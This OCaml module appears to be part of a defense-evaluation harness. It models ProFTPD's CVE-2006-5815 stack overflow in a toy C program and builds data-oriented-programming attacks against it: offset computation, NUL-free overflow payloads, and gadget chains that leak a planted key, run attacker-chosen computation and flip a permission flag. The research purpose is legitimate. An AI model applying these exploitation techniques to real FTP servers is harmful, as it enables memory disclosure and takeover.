let key_string = "FTPKEY:abcdef0123456789ABCDEF012"

let source =
  {|
const char ftp_key[33] = "FTPKEY:abcdef0123456789ABCDEF012";
long g_chain0 = 0;

// CVE-2006-5815: the %-expansion length computation can go negative;
// sstrncpy consumes it as size_t, unbounding the copy into buf.  The
// bounded copy-out happens first, as in the shipped code path.
void sreplace(char *dst, char *src, long blen) {
  char buf[512];
  strncpy(dst, src, 511);
  strncpy(buf, src, 512 - blen * 8);
}

// Command loop: the DOP gadget dispatcher.  The guard uses != (the
// shape of ProFTPD's session loop), so a stomped counter does not end
// the session.  Gadget operands op/delta are single bytes: an exploit
// payload arriving through a C-string copy can never contain NULs.
void cmd_loop() {
  char cmd[2048];
  long *cur = (long*)&g_chain0;
  long acc = 0;
  long mode = 0;
  long iter = 0;
  long n = 0;
  char pad0 = 0;
  char op = 0;
  char delta = 0;
  char expanded[600];
  while (iter != 1000) {
    n = read_input(cmd, 2000);
    if (n <= 0) break;
    cmd[n] = 0;
    sreplace(expanded, cmd, n);
    if (op == 1) acc = *cur;                         // LOAD
    else if (op == 2) cur = (long*)acc;              // MOV
    else if (op == 3) cur = (long*)((long)cur + delta); // PTR-ADD
    else if (op == 4) { print_int(acc); print_char(32); } // SEND
    else if (op == 5) acc += delta;                  // ACC-ADD
    else if (op == 6) mode = delta;                  // SETMODE
    else if (op == 7) acc += acc;                    // ACC-DBL
    op = 0;
    iter += 1;
  }
  if (mode == 7) { print_str("PERM-RWX "); }
  print_str("bye");
  print_newline();
}

int main() {
  long *c6 = (long*)malloc(8);
  long *c5 = (long*)malloc(8);
  long *c4 = (long*)malloc(8);
  long *c3 = (long*)malloc(8);
  long *c2 = (long*)malloc(8);
  long *c1 = (long*)malloc(8);
  long *c0 = (long*)malloc(8);
  *c6 = (long)ftp_key;
  *c5 = (long)c6;
  *c4 = (long)c5;
  *c3 = (long)c4;
  *c2 = (long)c3;
  *c1 = (long)c2;
  *c0 = (long)c1;
  g_chain0 = (long)c0;
  cmd_loop();
  return 0;
}
|}

let program = lazy (Minic.Driver.compile source)

let u64_of_prefix s =
  let v = ref 0L in
  for i = 7 downto 0 do
    v := Int64.logor (Int64.shift_left !v 8) (Int64.of_int (Char.code s.[i]))
  done;
  !v

let key_leak_marker = Int64.to_string (u64_of_prefix key_string)
let bot_answer = 0xB07B07
let bot_marker = string_of_int bot_answer
let memperm_marker = "PERM-RWX"
let benign_chunks = [ "USER alice"; "PASS hunter2"; "QUIT" ]

let sreplace_slots = [ ("dst", 8, 8); ("src", 8, 8); ("blen", 8, 8); ("buf", 512, 1) ]

let cmd_loop_slots =
  [
    ("cmd", 2048, 1); ("cur", 8, 8); ("acc", 8, 8); ("mode", 8, 8);
    ("iter", 8, 8); ("n", 8, 8); ("pad0", 1, 1); ("op", 1, 1); ("delta", 1, 1);
    ("expanded", 600, 1);
  ]

let chain = [ "main"; "cmd_loop"; "sreplace" ]

(* Offsets of op/delta relative to sreplace's buf. *)
let op_delta_offsets (applied : Defenses.Defense.applied) ~seed =
  let rows = Attacks.Layout.chain applied.prog chain in
  let exact v =
    Attacks.Layout.distance rows ~from_:("sreplace", "buf") ~to_:("cmd_loop", v)
  in
  match (exact "op", exact "delta") with
  | Some op, Some delta -> (op, delta)
  | _ -> (
      let rng = Sutil.Simrng.create ~seed in
      let callee_guess =
        Dopkit.guessed_slab_offsets ~slots:sreplace_slots ~vars:[ "buf" ]
          ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
      in
      let caller_guess =
        Dopkit.guessed_slab_offsets ~slots:cmd_loop_slots ~vars:[ "op"; "delta" ]
          ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
      in
      match
        Attacks.Layout.distance rows ~from_:("sreplace", "__ss_total")
          ~to_:("cmd_loop", "__ss_total")
      with
      | None -> invalid_arg "proftpd attack: no frame information"
      | Some gap ->
          let buf = List.assoc "buf" callee_guess in
          ( gap + List.assoc "op" caller_guess - buf,
            gap + List.assoc "delta" caller_guess - buf ))

(* One gadget invocation = one NUL-free command overflowing op/delta. *)
let gadget_chunk ~op_off ~delta_off (op, delta) =
  if op <= 0 || op > 127 || delta <= 0 || delta > 127 then
    invalid_arg "proftpd gadget: operands must be positive bytes";
  Attacks.Overflow.craft ~len:65
    [
      Attacks.Overflow.bytes op_off (String.make 1 (Char.chr op));
      Attacks.Overflow.bytes delta_off (String.make 1 (Char.chr delta));
    ]

let run_gadgets ~backend applied ~seed ~marker gadgets =
  Dopkit.deliver ~backend applied ~seed ~marker (fun () ->
      let op_off, delta_off = op_delta_offsets applied ~seed in
      List.map (gadget_chunk ~op_off ~delta_off) gadgets)

(* delta is a don't-care for LOAD/MOV/SEND; 1 keeps the payload NUL-free *)
let load = (1, 1)
let mov = (2, 1)
let ptr_add d = (3, d)
let send = (4, 1)
let acc_add d = (5, d)
let setmode d = (6, d)
let acc_dbl = (7, 1)

(* Walk the 7-deep pointer chain (no node address is ever used — the
   ASLR-bypass property of the original), then stream 4 key words. *)
let key_extraction_gadgets =
  let walk = List.concat (List.init 8 (fun _ -> [ load; mov ])) in
  let leak =
    List.concat (List.init 4 (fun _ -> [ load; send; ptr_add 8 ]))
  in
  walk @ leak

let attack_key_extraction ~backend applied ~seed =
  run_gadgets ~backend applied ~seed ~marker:key_leak_marker
    key_extraction_gadgets

(* Compute an attacker-chosen 24-bit answer with double-and-add, then
   emit it: the remotely-controlled-bot simulation. *)
let bot_gadgets =
  let bits = List.init 24 (fun i -> (bot_answer lsr (23 - i)) land 1) in
  let compute =
    List.concat_map
      (fun bit -> acc_dbl :: (if bit = 1 then [ acc_add 1 ] else []))
      bits
  in
  compute @ [ send ]

let attack_bot ~backend applied ~seed =
  run_gadgets ~backend applied ~seed ~marker:bot_marker bot_gadgets

let attack_memperm ~backend applied ~seed =
  run_gadgets ~backend applied ~seed ~marker:memperm_marker [ setmode 7 ]
